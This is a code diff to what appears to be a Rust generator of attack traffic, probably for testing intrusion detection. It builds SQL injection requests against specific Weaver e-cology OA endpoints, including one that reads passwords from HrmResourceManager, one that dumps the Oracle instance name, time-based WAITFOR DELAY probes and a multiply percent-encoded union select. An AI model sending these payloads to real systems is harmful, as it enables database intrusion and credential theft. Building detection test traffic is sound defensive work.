@@ -9,7 +9,7 @@ use super::super::encode::Encoding;
 use super::super::place::Place;
 use super::super::rng::Rng;
 use super::super::wire::{FORM, JSON, Part, Wire};
-use super::tools::{Shot, form, json, loose, parts, query, sent, xml};
+use super::tools::{Shot, form, in_base64, json, loose, parts, query, sent, xml};
 
 pub(super) const ATTACKS: &[AttackGrammar] = &[
     request("sql-of-offices", AttackClass::Sqli, 34, offices),
@@ -23,7 +23,7 @@ fn offices(rng: &mut Rng) -> Shot {
     let delay = format!("waitfor delay '0:0:{m}'");
     match rng.below(24) {
         0 => query(format!("/js/hrm/getdata.jsp?cmd=getSelectAllId&sql={}", codec::form(format!("select password as id from HrmResourceManager where id={n}"))), rng),
-        1 => form("/mobile/browser/WorkflowCenterTreeData.jsp?node=wftype_1&scope=2333", format!("formids={}%0a%0d{}union+select+{n},value+from+(select+1+as+value)+order+by+(((1", "1".repeat(11) + ")))", "%0a%0d".repeat(m)), rng),
+        1 => form("/mobile/browser/WorkflowCenterTreeData.jsp?node=wftype_1&scope=2333", format!("formids=11111111111))){}union+select+{n},instance_name+from+v%24instance+order+by+(((1", "%0a%0d".repeat(m * 9)), rng),
         2 => query(format!("/mobile/%20/plugin/browser.jsp?isDis=1&browserTypeId=269&keyword={}", codec::percent_all(codec::percent_all(codec::percent_all(format!("a' union select 1,'{n}'+'{word}").as_bytes()).as_bytes()).as_bytes())), rng),
         3 => form("/weaver/weaver.file.FileDownloadForOutDoc", format!("fileid={n}+WAITFOR+DELAY+'0:0:{m}'&isFromOutImg=1"), rng),
         4 => query(format!("/cpt/manage/validate.jsp?sourcestring=validateNum&sourceType=1&id={}", loose(format!("{n} union select str(98989*{m})"))), rng),
@@ -112,10 +112,10 @@ fn odd_bodies(rng: &mut Rng) -> Shot {
             format!("{{\"param\":{}}}", codec::json(format!("{{\"filter\":{},\"n\":{n}}}", codec::json(&attack)))),
             rng,
         ),
-        7 => query(
+        7 => in_base64(query(
             format!("/list?q={}", codec::percent(codec::base64(format!("{{\"name\":{}}}", codec::json(&attack))))),
             rng,
-        ),
+        )),
         8 => {
             let boundary = format!("----{}", rng.token(12));
             let body = format!(
